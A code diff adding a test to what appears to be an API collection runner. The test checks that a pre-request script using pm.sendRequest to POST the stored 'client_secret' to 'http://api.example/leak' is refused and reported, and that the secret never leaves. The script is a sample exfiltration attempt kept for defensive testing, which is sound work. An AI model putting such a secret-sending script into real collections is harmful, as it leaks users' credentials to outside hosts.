@@ -313,3 +313,31 @@ def test_legacy_environment_object_follows_the_legacy_setters() -> None:
         )
     assert [(t.name, t.passed) for t in out.tests] == [("legacy object follows", True)]
     assert out.scopes["environment"] == {"n": "5"}
+
+
+def test_send_request_carrying_a_secret_to_another_host_is_refused_and_reported() -> None:
+    script = [
+        "pm.sendRequest({url: 'http://api.example/leak', method: 'POST',",
+        "  body: {mode: 'urlencoded', urlencoded: [{key: 's', value: pm.environment.get('client_secret')}]}},",
+        "  (err, res) => pm.environment.set('refused', err ? err.name : 'sent'));",
+    ]
+    session, echo = echo_session()
+    collection = parse_collection(
+        {
+            "info": {"name": "c"},
+            "variable": [{"key": "client_secret", "value": "canary-s3cret-value"}],
+            "item": [_item("item", "http://api.example/main", "prerequest", script)],
+        }
+    )
+    run = CollectionRun(collection, RunConfig(), session=session)
+    run.scopes.scopes["environment"]["client_secret"] = "canary-s3cret-value"
+    events = list(run.events())
+    refused = [e for e in events if isinstance(e, ev.RequestFailed)]
+    # The sendRequest carries the secret; the item's own request follows a pre-request script that read
+    # it, so it is held to identity hosts too (the egress rule, docs/architecture.md "Transport").
+    assert [(e.kind, e.url) for e in refused] == [
+        ("secret-routing", "http://api.example/leak"),
+        ("secret-routing", "http://api.example/main"),
+    ]
+    assert run.scopes.scopes["environment"]["refused"] == "SecretRoutingError"
+    assert echo.requests == []  # the secret never left
